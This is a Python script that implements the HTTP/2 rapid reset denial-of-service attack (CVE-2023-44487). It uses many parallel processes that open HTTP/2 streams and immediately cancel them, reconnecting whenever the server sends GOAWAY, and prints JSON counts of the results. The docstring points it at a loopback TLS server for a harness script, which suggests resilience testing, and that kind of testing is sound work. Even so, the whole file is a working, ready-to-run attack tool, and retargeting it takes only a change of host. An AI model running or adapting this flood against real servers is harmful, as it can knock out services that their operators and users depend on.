#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a TLS server on loopback, for rapid-reset.sh.

CONNECTIONS processes hold one connection each and open STREAMS streams on it as fast as the
socket takes them, each a GET cancelled at once (HEADERS, then RST_STREAM CANCEL), reading what
the server sends between batches. A connection the server ends (GOAWAY, close) is opened again
for the streams left. Prints one JSON object: the counts over all connections, the seconds, and
the first few errors.

Usage: rapid_reset.py PORT CAFILE CONNECTIONS STREAMS
"""
import json
import select
import socket
import ssl
import sys
import time
from multiprocessing import Pool

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

PORT, CAFILE = int(sys.argv[1]), sys.argv[2]
CONNECTIONS, STREAMS = int(sys.argv[3]), int(sys.argv[4])
HEADERS = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
BATCH = 50  # streams queued between reads, so the server's frames (and its GOAWAY) are seen
BUFFERED = 65536  # queue no more while this much is unsent: the kernel sets the pace
COUNTS = ("sent", "connections", "goaway", "lost", "connect_failures", "responses", "server_resets")


def connect():
    context = ssl.create_default_context(cafile=CAFILE)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection(("127.0.0.1", PORT), timeout=10),
                               server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise RuntimeError("the server did not agree to HTTP/2")
    sock.setblocking(False)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding=None, validate_inbound_headers=False))
    conn.initiate_connection()
    return sock, conn


def drain(sock, conn, counts):
    """Reads what the server has sent; False once it has ended the connection."""
    while True:
        try:
            data = sock.recv(262144)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:  # reset by the server: as good as closed
            data = b""
        if not data:
            counts["lost"] += 1
            return False
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                counts["goaway"] += 1
                return False
            if isinstance(event, h2.events.ResponseReceived):
                counts["responses"] += 1
            elif isinstance(event, h2.events.StreamReset):
                counts["server_resets"] += 1
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)


def attack_on(sock, conn, counts):
    """Opens and cancels streams until all are sent and written out, or the server ends the
    connection."""
    out = bytearray(conn.data_to_send())
    while counts["sent"] < STREAMS or out:
        left = STREAMS - counts["sent"]
        for _ in range(min(BATCH, left) if len(out) < BUFFERED else 0):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, HEADERS, end_stream=True)
            conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            counts["sent"] += 1
        out += conn.data_to_send()
        readable, writable, _ = select.select([sock], [sock] if out else [], [], 5)
        if not (readable or writable or sock.pending() or left):
            return  # all sent, and for 5 s the server has read none of what is left
        if (readable or sock.pending()) and not drain(sock, conn, counts):
            return
        out += conn.data_to_send()
        try:
            del out[:sock.send(bytes(out[:262144]))]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            counts["lost"] += 1
            return


def attack(_):
    counts, errors = dict.fromkeys(COUNTS, 0), []
    while counts["sent"] < STREAMS and len(errors) < 5:
        try:
            sock, conn = connect()
        except OSError as error:  # the server is gone, or restarting
            counts["connect_failures"] += 1
            errors.append(repr(error))
            time.sleep(0.5)
            continue
        counts["connections"] += 1
        try:
            attack_on(sock, conn, counts)
        except h2.exceptions.ProtocolError as error:
            errors.append(repr(error))
        sock.close()
    return counts, errors


if __name__ == "__main__":
    started = time.monotonic()
    with Pool(CONNECTIONS) as pool:
        results = pool.map(attack, range(CONNECTIONS))
    totals = {key: sum(counts[key] for counts, _ in results) for key in COUNTS}
    totals["seconds"] = round(time.monotonic() - started, 1)
    totals["errors"] = [error for _, errors in results for error in errors][:5]
    print(json.dumps(totals))
